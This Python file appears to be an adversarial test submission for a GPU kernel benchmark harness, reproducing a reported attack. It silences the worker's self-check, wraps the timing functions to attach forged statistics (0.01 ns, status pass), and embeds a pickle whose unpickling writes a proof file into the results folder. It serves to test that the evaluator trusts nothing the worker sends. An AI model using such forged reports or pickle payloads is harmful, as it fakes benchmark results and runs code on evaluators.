"""Attack (a forged stats object, gpu-mode/reference-kernels issue #162): where the timed loop runs beside the
submission and hands its statistics to the parent as an object (eigh's pool worker returns a Stats, unpickled by
the parent, which logs its fields), the submission can hand back a Stats of its own making, or an object whose
unpickling runs its code in the parent. Here every report the worker sends carries, beside its honest fields, a
forged statistics object at a hundredth of a nanosecond (stats, worker_stats, clock, witness, a status of pass) and
a pickle whose loading would write PROOF into the results folder, which this process may not write. The calls and
their reported region are honest, so any number the evaluator records is its own. The worker's self-check is
silenced first (a method it does not cover) and the worker's timed sample and call wrapped.

Stderr says what was sent. The evaluator reads JSON lines, takes the fields it knows, computes every statistic
itself, and loads nothing."""
import base64
import os
import pickle
import sys
from pathlib import Path

from _honest import honest

PROOF = "forged_stats_unpickled"
FORGED = {"runs": 1000, "mean": 0.01, "std": 0.0, "err": 0.0, "best": 0.01, "worst": 0.01, "median": 0.01}
_results = Path(os.environ.get("NVFP4_ARENA_RESULTS", Path(__file__).resolve().parents[2] / "results"))


class _Payload:
    def __reduce__(self):
        return (Path.write_text, (_results / PROOF, "written by a pickle the worker sent\n"))


EXTRA = {"status": "pass", "stats": FORGED, "worker_stats": FORGED, "witness": {"witness_discarded": 0},
         "clock": {"fixed_ns": 0.0}, "stats_pickle": base64.b64encode(pickle.dumps(_Payload())).decode()}
_sample = sys.modules.get("harness.worker.sample")
if _sample is not None:
    _sample.SelfCheck.findings = lambda self: []
    _timed, _once = _sample.timed_sample, _sample.call_once
    _sent = {"reports": 0}

    def _forged_sample(*args, **kwargs):
        out = {**_timed(*args, **kwargs), **EXTRA}
        _sent["reports"] += 1
        if _sent["reports"] % 10 == 1:
            print(f"[forged_stats] sent a forged stats object (mean {FORGED['mean']} ns, {FORGED['runs']} runs) and a "
                  f"pickle with report {_sent['reports']}", file=sys.stderr, flush=True)
        return out

    _sample.timed_sample = _forged_sample
    _sample.call_once = lambda *args, **kwargs: {**_once(*args, **kwargs), **EXTRA}


def custom_kernel(data):
    return honest(data)
